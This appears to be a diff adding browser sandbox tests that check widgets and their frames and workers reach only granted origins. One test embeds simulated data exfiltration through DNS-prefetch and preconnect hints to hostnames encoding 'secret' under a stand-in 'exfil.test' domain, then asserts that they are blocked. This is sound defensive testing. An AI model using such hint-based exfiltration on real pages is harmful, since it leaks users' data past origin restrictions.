@@ -11,6 +11,9 @@
 #include <string>
 #include <vector>
 
+#include "testing/HttpServer.h"
+#include "testing/Listener.h"
+#include "testing/LoopbackResolver.h"
 #include "testing/ManualPage.h"
 
 namespace {
@@ -582,12 +585,184 @@ TEST_F(WidgetBrowserTest, GrantedWidgetReachesExactlyItsOrigin) {
   EXPECT_EQ(1, granted.requestCount("/data.txt"));
   EXPECT_EQ(1, granted.requestCount("/data.txt?fetch"));
   EXPECT_EQ(1, granted.requestCount("/page.html"));
-  EXPECT_EQ(1, granted.requestCount("/socket"));
+  EXPECT_EQ(1, granted.requestCount("/socket")) << run.err;
   EXPECT_EQ(1, granted.requestCount("/redirect"));
   EXPECT_EQ(0, other.requestCount()) << run.err;
   // A granted origin is reached from the page, but the window stays on the
   // widget when a link leads there.
   EXPECT_EQ("widget://granted/index.html", url(run));
+}
+
+// Content from a granted origin is held to the same grants: a frame of it,
+// and the workers it starts, reach no other origin with any kind of
+// request. Each try in the frame reports back to the widget's page.
+TEST_F(WidgetBrowserTest, GrantedFrameAndItsWorkersReachNothingElse) {
+  HttpServer granted;
+  Listener other;  // another origin on the same host: no connection at all
+  const std::string g = granted.url("");
+  const std::string o = "http://" + other.hostPort();
+  const std::string frame =
+      "<!DOCTYPE html><html><body><script>\n"
+      "const o = '" + o + "', g = '" + g + "';\n"
+      "const wait = (p) => Promise.race([p, new Promise(r =>"
+      "  setTimeout(() => r('no answer'), 5000))]);\n"
+      "function socket(url) { return new Promise(r => { try {"
+      "  const w = new WebSocket(url); w.onopen = () => r('ok: open');"
+      "  w.onerror = () => r('blocked'); } catch (e) { r('blocked'); } }); }\n"
+      "const tries = {\n"
+      "  socket: socket('ws://" + other.hostPort() + "/s'),\n"
+      "  secureSocket: socket('wss://" + other.hostPort() + "/s'),\n"
+      "  events: new Promise(r => { try { const e = new EventSource(o + '/e');"
+      "    e.onopen = () => r('ok: open');"
+      "    e.onerror = () => { e.close(); r('blocked'); };"
+      "  } catch (x) { r('blocked'); } }),\n"
+      "  fetch: fetch(o + '/f').then(r => 'ok: ' + r.status, () => 'blocked'),\n"
+      "  xhr: new Promise(r => { const x = new XMLHttpRequest();"
+      "    x.open('GET', o + '/x'); x.onload = () => r('ok: ' + x.status);"
+      "    x.onerror = () => r('blocked'); x.send(); }),\n"
+      "  worker: new Promise(r => { try { const w = new Worker('worker.js');"
+      "    w.onmessage = m => r(m.data); w.onerror = () => r('no worker');"
+      "    w.postMessage([g + '/data.txt?worker', o + '/w']);"
+      "  } catch (e) { r('no worker: ' + e); } }),\n"
+      "  shared: new Promise(r => { try {"
+      "    const w = new SharedWorker('shared.js');"
+      "    w.port.onmessage = m => r(m.data); w.onerror = () => r('no worker');"
+      "    w.port.postMessage([g + '/data.txt?shared', o + '/sh']);"
+      "  } catch (e) { r('no worker: ' + e); } }),\n"
+      "  service: navigator.serviceWorker"
+      "    ? navigator.serviceWorker.register('sw.js').then("
+      "        () => 'registered', e => 'refused: ' + e)"
+      "    : Promise.resolve('unavailable'),\n"
+      "};\n"
+      "(async () => { const results = {};"
+      "  for (const k of Object.keys(tries)) results[k] = await wait(tries[k]);"
+      "  parent.postMessage(JSON.stringify(results), '*'); })();\n"
+      "</script></body></html>";
+  // A worker fetches a granted address, then the other origin, and says
+  // what each gave.
+  const std::string fetchBoth =
+      "const both = ([mine, theirs]) => fetch(mine).then(r => r.text())"
+      "  .catch(() => 'failed').then(first => fetch(theirs).then("
+      "    r => first + ' / ok: ' + r.status, () => first + ' / blocked'));\n";
+  granted.serve("/frame.html", 200, frame);
+  granted.serve("/worker.js", 200,
+                fetchBoth + "onmessage = m => both(m.data).then(postMessage);",
+                {{"Content-Type", "text/javascript"}});
+  granted.serve("/shared.js", 200,
+                fetchBoth +
+                    "onconnect = e => { const port = e.ports[0];"
+                    "  port.onmessage = m => both(m.data).then("
+                    "    t => port.postMessage(t)); };",
+                {{"Content-Type", "text/javascript"}});
+  granted.serve("/sw.js", 200, "fetch('" + o + "/sw');",
+                {{"Content-Type", "text/javascript"}});
+  for (const char* query : {"/data.txt?worker", "/data.txt?shared"})
+    granted.serve(query, 200, "granted data");
+  const std::string script =
+      "const framed = new Promise(r => addEventListener('message',"
+      "  e => r(e.data)));"
+      "const f = document.createElement('iframe');"
+      "f.src = '" + g + "/frame.html'; document.body.appendChild(f);"
+      "finish({frame: framed});";
+  installWithEngine(widgetPackage(
+      "framer", "  <access origin=\"" + g + "\"/>\n",
+      {{"index.html", page(script)}}));
+  Browse run = browse({"--exit-after-load", "widget://framer/index.html"},
+                      {{"WIDGET_BROWSER_STEPS", "wait:#done"}});
+  ASSERT_EQ(0, run.status) << run.out << run.err;
+  const nlohmann::json found = nlohmann::json::parse(
+      results(run).value("frame", std::string()), nullptr, false);
+  ASSERT_TRUE(found.is_object()) << text(run);
+  for (const char* name : {"socket", "secureSocket", "events", "fetch", "xhr"})
+    EXPECT_EQ("blocked", found.value(name, "")) << name << "\n" << run.err;
+  // The workers ran, reached the granted origin through the gate, and
+  // nothing else.
+  EXPECT_EQ("granted data / blocked", found.value("worker", "")) << run.err;
+  EXPECT_EQ("granted data / blocked", found.value("shared", "")) << run.err;
+  EXPECT_EQ(1, granted.requestCount("/data.txt?worker"));
+  EXPECT_EQ(1, granted.requestCount("/data.txt?shared"));
+  // Service workers are off for widgets.
+  EXPECT_EQ("unavailable", found.value("service", "")) << run.err;
+  EXPECT_EQ(0, granted.requestCount("/sw.js"));
+  EXPECT_EQ(0, other.connections()) << run.err;
+  // What got as far as the gate was refused there, with a line.
+  for (const std::string& line :
+       {"refused " + o + "/w: an origin the widget was not granted",
+        "refused " + o + "/sh: an origin the widget was not granted",
+        "refused ws://" + other.hostPort() +
+            "/s: an origin the widget was not granted"})
+    EXPECT_NE(std::string::npos, run.err.find(line)) << line << "\n" << run.err;
+}
+
+// A widget without <access> opens no connection and sends no DNS query by
+// hinting at hosts (preconnect, dns-prefetch, prefetch), by markup or by
+// script. The browser runs with a resolver configuration that sends every
+// lookup to a resolver the test reads; the name the widget is granted,
+// which the gate looks up, shows that lookups are seen.
+TEST_F(WidgetBrowserTest, HintsReachNoHostAndResolveNoName) {
+  LoopbackResolver resolver(dir.file("resolv.conf"));
+  if (!resolver.ready()) GTEST_SKIP() << "127.53.0.1:53 is taken";
+  wrapper = resolver.wrapper();
+  Listener listener;
+  const std::string l = "http://" + listener.hostPort();
+  std::string hints;
+  for (const std::string rel : {"preconnect", "dns-prefetch", "prefetch"}) {
+    hints += "<link rel=\"" + rel + "\" href=\"" + l + "/" + rel + "\">";
+    hints += "<link rel=\"" + rel + "\" href=\"http://" + rel +
+             "-c2VjcmV0.exfil.test/\">";
+  }
+  const std::string script =
+      "for (const rel of ['preconnect', 'dns-prefetch', 'prefetch']) {"
+      "  const link = document.createElement('link'); link.rel = rel;"
+      "  link.href = 'https://' + rel + '-script-' + btoa('secret')"
+      "    .replace(/=/g, '') + '.exfil.test/';"
+      "  document.head.appendChild(link); }"
+      "finish({"
+      "  granted: tryFetch('http://granted-name.test:8081/data.txt'),"
+      "  hinted: new Promise(r => setTimeout(() => r('waited'), 1500)),"
+      "});";
+  installWithEngine(widgetPackage(
+      "hinter", "  <access origin=\"http://granted-name.test:8081\"/>\n",
+      {{"index.html", page(script, hints)}}));
+  Browse run = browse({"--exit-after-load", "widget://hinter/index.html"},
+                      {{"WIDGET_BROWSER_STEPS", "wait:#done"}});
+  ASSERT_EQ(0, run.status) << run.out << run.err;
+  EXPECT_EQ("waited", results(run).value("hinted", "")) << text(run);
+  EXPECT_EQ(0, listener.connections()) << run.err;
+  bool grantedLookedUp = false;
+  for (const std::string& name : resolver.names()) {
+    EXPECT_EQ(std::string::npos, name.find("exfil")) << name;
+    if (name == "granted-name.test") grantedLookedUp = true;
+  }
+  EXPECT_TRUE(grantedLookedUp) << run.err;
+}
+
+// A grant of http://h:p opens ws://h:p and no wss://h:p; one of
+// https://h:p opens wss://h:p and no ws://h:p.
+TEST_F(WidgetBrowserTest, SocketsOpenOnlyTheSchemeGranted) {
+  Listener plain;   // granted as http
+  Listener secure;  // granted as https
+  const std::string script =
+      "finish({"
+      "  wssOnHttp: trySocket('wss://" + plain.hostPort() + "/s'),"
+      "  httpsOnHttp: tryFetch('https://" + plain.hostPort() + "/f'),"
+      "  wsOnHttps: trySocket('ws://" + secure.hostPort() + "/s'),"
+      "  httpOnHttps: tryFetch('http://" + secure.hostPort() + "/f'),"
+      "});";
+  installWithEngine(widgetPackage(
+      "schemes",
+      "  <access origin=\"http://" + plain.hostPort() + "\"/>\n"
+      "  <access origin=\"https://" + secure.hostPort() + "\"/>\n",
+      {{"index.html", page(script)}}));
+  Browse run = browse({"--exit-after-load", "widget://schemes/index.html"},
+                      {{"WIDGET_BROWSER_STEPS", "wait:#done"}});
+  ASSERT_EQ(0, run.status) << run.out << run.err;
+  const nlohmann::json found = results(run);
+  ASSERT_EQ(4u, found.size()) << text(run);
+  for (const auto& entry : found.items())
+    EXPECT_EQ("blocked", entry.value().get<std::string>()) << entry.key();
+  EXPECT_EQ(0, plain.connections()) << run.err;
+  EXPECT_EQ(0, secure.connections()) << run.err;
 }
 
 TEST_F(WidgetBrowserTest, WidgetReadsItsOwnFilesInTheReadersLanguage) {
